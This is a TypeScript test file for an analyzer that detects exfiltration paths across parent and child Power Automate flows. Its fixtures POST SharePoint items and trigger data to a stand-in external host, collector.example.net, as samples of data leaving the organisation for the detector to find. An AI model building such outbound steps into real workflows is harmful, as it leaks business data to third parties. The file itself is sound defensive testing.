import * as assert from 'node:assert/strict';
import { bodyPropertyRead } from '../../../core/analysis/body-property';
import { dataFlow } from '../../../core/analysis/dataflow';
import { exfiltrationPaths } from '../../../core/analysis/exfiltration';
import { WorkspaceIndex } from '../../../core/analysis/workspace-index';
import type { Flow } from '../../../core/model/types';
import { flowFromText, workspaceFixture } from '../../helpers/fixtures';

const SCHEMA = 'https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#';
const OPTIONS = { policies: [], trustedDomains: [] };
const A = '11111111-2222-4333-8444-000000000001';
const B = '11111111-2222-4333-8444-000000000002';

const manual = { manual: { type: 'Request', kind: 'Button', inputs: { schema: { type: 'object', properties: { text: { title: 'in', type: 'string' }, text_1: { title: 'other', type: 'string' } } } } } };
const getItems = {
  runAfter: {},
  type: 'OpenApiConnection',
  inputs: { host: { connectionName: 'shared_sharepointonline', operationId: 'GetItems', apiId: '/providers/Microsoft.PowerApps/apis/shared_sharepointonline' }, parameters: { dataset: 'https://contoso.sharepoint.com/sites/x', table: 'T' } },
};
const call = (id: string, body: unknown, runAfter: object = {}) => ({ runAfter, type: 'Workflow', inputs: { host: { workflowReferenceName: id }, body } });
const post = (body: string, runAfter: object = {}) => ({ runAfter, type: 'Http', inputs: { method: 'POST', uri: 'https://collector.example.net/x', body } });

function flow(file: string, actions: object, triggers: object = manual, extra: object = {}): Flow {
  return flowFromText(JSON.stringify({ ...extra, properties: { definition: { $schema: SCHEMA, triggers, actions } } }, null, 2), file);
}

function pathsOf(target: Flow, index: WorkspaceIndex) {
  return exfiltrationPaths(target, { ...OPTIONS, workspace: index });
}

describe('analysis: data across child flows', () => {
  it('reads which body property a trigger or child flow read takes', () => {
    const f = flow(`Workflows/Reader-${A}.json`, {
      Run: call(B, {}),
      Reads: {
        runAfter: { Run: ['Succeeded'] },
        type: 'Compose',
        inputs: ["@triggerBody()?['Text']", "@triggerOutputs()?['body/text_1']", '@triggerBody()', "@body('Run')?['rows']", "@outputs('Run')?['body']?['count']", "@outputs('Run')?['headers']", "@actions('Run')?['outputs']?['body']"],
      },
    });
    const reads = dataFlow(f).readersOf({ kind: 'step', step: f.triggers[0]! }).concat(dataFlow(f).readersOf({ kind: 'step', step: f.steps.find((s) => s.name === 'Run')! }));
    assert.deepEqual(reads.map(bodyPropertyRead), ['text', 'text_1', '*', 'rows', 'count', undefined, '*']);
  });

  it('finds a child by the WorkflowId its solution gives it, the GUID in its file name or its own name, and in the caller\'s own solution first', async () => {
    const flows = await workspaceFixture('exfiltration/http-data-path/child-flow-two-levels');
    const index = WorkspaceIndex.ofFlows(flows);
    const calls = index.keys().flatMap((k) => index.callsOf(k).map((c) => `${c.call.step} -> ${c.child?.name}`));
    assert.deepEqual(calls.sort(), ['Run_formatter -> HELPER - Format invoices', 'Run_sender -> HELPER - Send invoices']);

    // By file name alone, and with two flows of one id the caller's solution wins: here, none has a solution, so the first by path.
    const parent = flow('x/Parent.json', { Get_items: getItems, Run: call(`{${B.toUpperCase()}}`, { text: "@{body('Get_items')}" }, { Get_items: ['Succeeded'] }) }, { Recurrence: { type: 'Recurrence', recurrence: { frequency: 'Day', interval: 1 } } });
    const first = flow(`a/Child-${B}.json`, { Send: post("@triggerBody()['text']") });
    const second = flow(`b/Child-${B}.json`, { Send: post("@triggerBody()['text']") });
    const both = WorkspaceIndex.ofFlows([parent, second, first]);
    assert.equal(both.callsOf('x/Parent.json')[0]?.child?.key, `a/Child-${B}.json`);
    // By the flow's own name (a legacy definition's GUID), with no GUID in the file name.
    const named = flow('c/Child.json', { Send: post("@triggerBody()['text']") }, manual, { name: B });
    assert.equal(WorkspaceIndex.ofFlows([parent, named]).callsOf('x/Parent.json')[0]?.child?.key, 'c/Child.json');
  });

  it('follows only the input that carries business data, and a whole-body read takes any', () => {
    const parent = flow('Parent.json', { Get_items: getItems, Run: call(A, { text: "@{body('Get_items')}", text_1: 'literal' }, { Get_items: ['Succeeded'] }) }, { Recurrence: { type: 'Recurrence', recurrence: { frequency: 'Day', interval: 1 } } });
    const child = flow(`Child-${A}.json`, { Send_text: post("@triggerBody()['text']"), Send_other: post("@triggerBody()['text_1']"), Send_all: post('@triggerBody()') });
    const index = WorkspaceIndex.ofFlows([parent, child]);
    assert.deepEqual(pathsOf(child, index).map((p) => p.sink.name).sort(), ['Send_all', 'Send_text']);
    assert.deepEqual(pathsOf(parent, index), [], 'the parent itself sends nothing out');
  });

  it('a Response with an error status returns nothing to the success path of its caller', () => {
    const parent = flow('Parent.json', { Run: call(A, {}), Send: post("@body('Run')?['rows']", { Run: ['Succeeded'] }) });
    const respond = (statusCode: number) => ({ runAfter: { Get_items: ['Succeeded'] }, type: 'Response', kind: 'Http', inputs: { statusCode, body: "@body('Get_items')" } });
    const failing = flow(`Child-${A}.json`, { Get_items: getItems, Response: respond(409) });
    assert.deepEqual(pathsOf(parent, WorkspaceIndex.ofFlows([parent, failing])), []);
    const answering = flow(`Child-${A}.json`, { Get_items: getItems, Response: respond(200) });
    const [found] = pathsOf(parent, WorkspaceIndex.ofFlows([parent, answering]));
    assert.equal(found?.upstream?.origin.step, 'Get_items');
  });

  it('ends on flows that pass data to each other in a circle, with the same answer whichever order they come in', () => {
    const a = flow(`A-${A}.json`, { Get_items: getItems, Run_b: call(B, { text: "@{body('Get_items')}" }, { Get_items: ['Succeeded'] }), Send: post("@triggerBody()['text']") });
    const b = flow(`B-${B}.json`, { Run_a: call(A, { text: "@triggerBody()['text']" }), Send: post("@triggerBody()['text']") });
    const one = WorkspaceIndex.ofFlows([a, b]);
    const other = WorkspaceIndex.ofFlows([b, a]);
    for (const f of [a, b]) {
      const key = f.doc.source.path;
      assert.equal(one.fingerprint(key, OPTIONS), other.fingerprint(key, OPTIONS));
    }
    // A's own trigger gets back, through B, the items A read: reported at A's Send, with hops in both files.
    const [back] = pathsOf(a, one).filter((p) => p.upstream);
    assert.equal(back?.sink.name, 'Send');
    assert.deepEqual([...new Set(back?.upstream?.links.map((l) => l.file))], [`A-${A}.json`, `B-${B}.json`]);
  });

  it('changes a flow\'s fingerprint when what its parent passes in changes, and only then', () => {
    const parentWith = (text: string) => flow('Parent.json', { Get_items: getItems, Run: call(A, { text }, { Get_items: ['Succeeded'] }) }, { Recurrence: { type: 'Recurrence', recurrence: { frequency: 'Day', interval: 1 } } });
    const child = flow(`Child-${A}.json`, { Send: post("@triggerBody()['text']") });
    const key = child.doc.source.path;
    const business = WorkspaceIndex.ofFlows([parentWith("@{body('Get_items')}"), child]).fingerprint(key, OPTIONS);
    assert.equal(WorkspaceIndex.ofFlows([parentWith("@{body('Get_items')}"), child]).fingerprint(key, OPTIONS), business);
    assert.notEqual(WorkspaceIndex.ofFlows([parentWith('literal'), child]).fingerprint(key, OPTIONS), business);
  });
});
